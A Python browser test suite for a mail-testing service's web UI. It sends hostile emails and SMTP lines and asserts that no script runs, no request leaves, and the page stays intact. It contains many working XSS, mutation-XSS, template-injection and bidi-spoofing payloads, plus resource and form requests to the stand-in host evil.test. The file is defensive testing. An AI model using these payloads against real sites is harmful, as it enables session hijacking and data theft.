"""Hostile mails in a browser: nothing runs, nothing is sent, nothing breaks.

All hosts but the service itself lead, by a proxy, to a socket that records each
connection: what a policy blocks is never seen there, preconnect would be.
"""

from __future__ import annotations

import socket
import threading
import time
from typing import Any

from tests.browser.case import BrowserCase

RUN = "top.document.title='RAN';document.title='RAN';alert(1)"

HTML = f"""<!DOCTYPE html><html onload="{RUN}"><head>
<title>x</title><base href="https://evil.test/"><base target="_top">
<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<meta http-equiv="refresh" content="0;url=javascript:{RUN}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="https://evil.test/style.css">
<link rel="preconnect" href="https://evil.test"><LINK rel=preconnect href=//a.evil.test>
<link rel="dns-prefetch" href="//evil.test"><link rel="prefetch" href="//evil.test/p">
<link rel="modulepreload" href="//evil.test/m"><link rel="icon" href="//evil.test/i">
<style>@import url(https://evil.test/import.css);
@font-face {{ font-family: x; src: url(https://evil.test/font) }}
html, body {{ position: fixed; inset: 0; z-index: 2147483647; background: red;
  background-image: url(https://evil.test/background); font-family: x }}
body::before {{ content: "COVERED"; position: fixed; inset: 0; font-size: 99px }}
</style><script>{RUN}</script><script src="https://evil.test/script.js"></script>
<script type="module">import 'https://evil.test/module.js'</script>
<script type="speculationrules">{{"prefetch":[{{"urls":["//evil.test/s"]}}]}}</script>
</head><body onload="{RUN}" onerror="{RUN}" background="https://evil.test/body.png">
<img src="x" onerror="{RUN}"><img srcset="https://evil.test/set 1x">
<img src="https://evil.test/pixel.png"><img src="http://127.0.0.1:1/internal">
<img src="/reset"><img src="cid:none"><image src="https://evil.test/image">
<svg onload="{RUN}"><script>{RUN}</script><image href="https://evil.test/svg"/>
<use href="https://evil.test/use#x"/><animate onbegin="{RUN}" attributeName="x"/>
<foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></table></math>
<iframe src="https://evil.test/frame"></iframe><iframe srcdoc="<script>{RUN}</script>">
</iframe><object data="https://evil.test/object"></object>
<embed src="https://evil.test/embed"><video src="https://evil.test/video" autoplay
poster="https://evil.test/poster"></video><audio src="https://evil.test/a" autoplay>
</audio><input type="image" src="https://evil.test/input">
<form id="f" action="https://evil.test/form" method="post"><input name="token" autofocus
onfocus="{RUN}"><button>Send</button></form>
<form action="/reset" method="post" target="_top"><button>Reset</button></form>
<a id="js" href="javascript:{RUN}">script</a> <a id="top" target="_top"
href="https://evil.test/top" ping="https://evil.test/ping">top</a>
<a id="self" href="https://evil.test/self">self</a>
<details open ontoggle="{RUN}"><summary>x</summary></details>
<marquee onstart="{RUN}">x</marquee><template><script>{RUN}</script></template>
<p style="position:fixed;inset:0;background:url(https://evil.test/inline)">visible
text</p>
</body></html>"""

MARKUP = f"\"'><script>{RUN}</script><img src=x onerror={RUN}><!--</title></textarea>"
BIDI = "\u202egpj.exe\u2066\u202d abc"


class Recorder:
    """A proxy that records what reaches it, and answers nothing."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    asked = connection.recv(2000)
                except OSError:
                    asked = b"nothing"
            # Chromium itself asks its maker about fields of forms.
            if b"googleapis.com" not in asked and asked:
                self.seen.append(asked)

    def close(self) -> None:
        """Record no more."""
        self._socket.close()


class HostileCase(BrowserCase):
    """A browser whose requests to other hosts are recorded."""

    def setUp(self) -> None:
        """A context that reaches everything but the service by the recorder."""
        super().setUp()
        self.recorder = Recorder()
        self.addCleanup(self.recorder.close)
        proxy = {
            "server": f"http://127.0.0.1:{self.recorder.port}",
            "bypass": self.url.removeprefix("http://"),
        }
        self.context = self.new_context(proxy=proxy)
        self.dialogs: list[str] = []
        self.changed: list[str] = []
        # The browser reports what it blocks.
        self.expected_errors = ["Content Security Policy", "sandboxed", "Blocked"]
        self.expected_errors += ["ERR_BLOCKED", "Unsafe attempt", "404", "Refused"]

    def tearDown(self) -> None:
        """What the browser reports as requested may be blocked: the recorder knows."""
        self.requested = [url for url in self.requested if "evil.test" not in url]
        super().tearDown()

    def visit(self, path: str) -> Any:
        """Open a screen, and record dialogs and requests that change something."""
        page = self.open(path, self.context)
        page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))
        page.on("request", self._look)
        return page

    def _look(self, request: Any) -> None:
        if request.method != "GET" and request.url.startswith(self.url):
            self.changed.append(request.url)

    def check_harmless(self, page: Any) -> None:
        """No script has run, nothing was sent, and the page is still there."""
        page.wait_for_timeout(700)
        self.assertEqual(self.recorder.seen, [])
        self.assertEqual(self.dialogs, [])
        self.assertEqual(self.changed, [])
        self.assertNotEqual(page.title(), "RAN")
        self.assertTrue(page.url.startswith(self.url), page.url)
        self.see(page.get_by_role("link", name="Behaviors"))


class HostileMailTests(HostileCase):
    """Mails that attack who reads them"""

    def send_html(self, page: str, *headers: str) -> None:
        """Send a mail of HTML."""
        head = [
            "From: mallory@h.test",
            "To: bob@x.test",
            *headers,
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-8",
        ]
        lines = [*head, "", page]
        self.send_octets("\r\n".join(lines).replace("\n\n", "\n").encode())

    def test_the_recorder_records(self) -> None:
        """A request to another host is seen: the tests would notice one."""
        page = self.context.new_page()
        page.goto(f"{self.url}/health")
        page.evaluate("fetch('http://evil.test/x').catch(() => 0)")
        self.assertIn(b"evil.test", b"".join(self.recorder.seen))

    def test_html(self) -> None:
        """Script, base, forms, refresh, SVG, frames, links: all in one mail."""
        self.send_html(HTML, "Subject: hostile")
        page = self.visit("/ui/mails/1")
        frame = page.frame_locator("iframe.mail")
        self.see(frame.get_by_text("visible text"))
        self.check_harmless(page)
        # It covers its own frame, not the page.
        page.get_by_role("link", name="Headers").click(trial=True)
        for link in "#js", "#top", "#self", "#f button":
            frame.locator(link).dispatch_event("click")
            page.wait_for_timeout(100)
        self.check_harmless(page)
        for tab in "source", "headers", "parts", "links", "raw":
            page.goto(f"{self.url}/ui/mails/1?tab={tab}")
            self.check_harmless(page)

    def test_opened_alone(self) -> None:
        """The HTML as a page of its own is sandboxed, too."""
        self.send_html(HTML)
        page = self.visit("/smtpMails/1/html")
        page.wait_for_timeout(700)
        self.assertEqual((self.recorder.seen, self.dialogs, self.changed), ([], [], []))
        self.assertEqual(page.evaluate("origin"), "null")

    def test_remote_images_are_requested_only_on_demand(self) -> None:
        """Then images are, by HTTPS, and nothing else."""
        self.send_html("<img src='https://evil.test/p'><script src='//evil.test/s'>")
        page = self.visit("/ui/mails/1")
        self.see(page.get_by_text("are blocked"))
        self.check_harmless(page)
        self.expected_errors += ["ERR_"]
        page.get_by_role("link", name="Load images").click()
        deadline = time.monotonic() + 10
        while not self.recorder.seen and time.monotonic() < deadline:
            page.wait_for_timeout(50)
        for octets in self.recorder.seen:
            self.assertTrue(octets.startswith(b"CONNECT evil.test:443"), octets)
        self.assertTrue(self.recorder.seen)

    def test_large_html(self) -> None:
        """5 MB of HTML are displayed, and the page stays usable."""
        self.send_html("<h1>start</h1>" + ("<p>" + "some words " * 90 + "\n") * 5_300)
        page = self.visit("/ui/mails/1")
        self.see(page.frame_locator("iframe.mail").get_by_text("start"))
        page.locator(".tabs").get_by_role("link", name="Headers").click()
        self.see(page.locator(".view"), "mallory@h.test")
        self.check_harmless(page)

    def test_markup_in_every_field(self) -> None:
        """Subjects, names, file names, types, ids, header names: shown as they are."""
        part = "\r\n".join(
            [
                f"Content-Type: image/png; name*=utf-8''{'%3Cscript%3E'}x",
                f'Content-Disposition: attachment; filename="{BIDI}<img src=x>.png"',
                "Content-ID: <\"'><script>@x>",
                "",
                "x",
            ]
        )
        content = "\r\n".join(
            [
                f"Subject: {MARKUP} {BIDI}",
                f'From: "{BIDI} <b>" <mallory@h.test>',
                f'To: {MARKUP} <bob@x.test>, "</bdi></td>" <a@x.test>',
                f"Message-ID: <{MARKUP}>",
                f"X-<script>: {MARKUP}",
                "X-{{7*7}}: {{7*7}} {% raw %}",
                "X-Long: " + "A" * 20_000,
                "MIME-Version: 1.0",
                "Content-Type: multipart/mixed; boundary=b",
                "",
                "--b\r\nContent-Type: text/plain; charset=utf-8\r\n",
                f"{MARKUP} {BIDI}",
                f"--b\r\n{part}",
                f"--b\r\nContent-Type: <script>{RUN}</script>/x\r\n\r\nx\r\n--b--\r\n",
            ]
        )
        self.send_octets(content.encode(), helo=f"a{MARKUP}".replace(" ", ""))
        page = self.visit("/ui/mails")
        self.see(page.locator("tr[data-row]"), "<script>")
        self.check_harmless(page)
        self.check_width(page)
        for tab in "text", "headers", "parts", "raw":
            page.goto(f"{self.url}/ui/mails/1?tab={tab}")
            self.see(page.locator(".view"))
            self.check_harmless(page)
            self.check_width(page)
        self.assertNotIn("49", page.locator(".view").inner_text()[:200])

    def test_ten_thousand_recipients(self) -> None:
        """The mails and deliveries show the first of them at once."""
        lines = [f"RCPT TO:<r{number}@x.test>" for number in range(10_000)]
        octets = "\r\n".join(
            ["EHLO c.test", "MAIL FROM:<a@h.test>", *lines, "DATA", ""]
        )
        with socket.create_connection(self.service.pair("smtp"), 60) as client:
            client.sendall(octets.encode())
            client.sendall(b"Subject: many\r\n\r\nx\r\n.\r\nQUIT\r\n")
            while client.recv(65536):
                pass
        page = self.visit("/ui/mails")
        self.see(page.locator("tr[data-row]"), "and 9,998 more")
        begun = time.monotonic()
        page.goto(f"{self.url}/ui/mails/1")
        self.see(page.locator(".compared"), "r1@x.test")
        self.assertLess(time.monotonic() - begun, 10)
        self.see(page.get_by_text("more addresses are not shown"))
        self.check_harmless(page)
        page.goto(f"{self.url}/ui/deliveries")
        self.see_count(page.locator(".row"), 50)
        page.locator(".open").first.click()
        self.see(page.get_by_role("heading", name="Transcript"))
        self.check_harmless(page)


class HostileClientTests(HostileCase):
    """Lines that attack who reads transcripts, behaviors and queries"""

    def test_names_and_lines(self) -> None:
        """HELO names, recipients and unknown verbs, on all screens."""
        replies = self.talk(
            f"EHLO {MARKUP}",
            f"EHLO [{MARKUP}]",
            "MAIL FROM:<a@h.test>",
            f'RCPT TO:<"<script>{RUN}</script>"@x.test>',
            f'RCPT TO:<"<img/src=x/onerror={RUN}>"@x.test>',
            f"XYZZY {MARKUP}",
        )
        self.assertIn("250 2.1.5", replies)
        behaviors = [
            {
                "id": "a",
                "name": MARKUP[:60],
                "tag": "<b>&\"'",
                "command": "RCPT TO",
                "condition": {"operator": "contains", "matchingValue": MARKUP},
                "response": {"code": 450, "message": MARKUP},
                "scenario": {"name": "</script>", "state": "<img src=x>"},
                "per": "recipient",
            }
        ]
        self.call("PUT", "/smtpBehaviors", behaviors)
        record = {"name": "x.test", "type": "TXT", "strings": [MARKUP, BIDI]}
        self.call("POST", "/dnsRecords", record)
        for path in (
            "/ui/behaviors",
            "/ui/behaviors/a",
            "/ui/behaviors/all",
            "/ui/behaviors/new?line=RCPT+TO:%3C%22%3Cscript%3E%22@x%3E",
            "/ui/behaviors?tag=%3Cscript%3E",
            "/ui/dns?to=%3Cscript%3E@x.test&name=%3Cb%3E",
            "/ui/mails?q=%22%3E%3Cscript%3E:x",
            "/ui/mails?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&host=%3Cb%3E",
            "/ui/recipes?q=%3Cscript%3E",
            "/ui/hosts",
            "/ui/deliveries",
            "/ui/sessions/1",
            "/",
        ):
            page = self.visit(path)
            self.check_harmless(page)
            self.check_width(page)
            page.close()
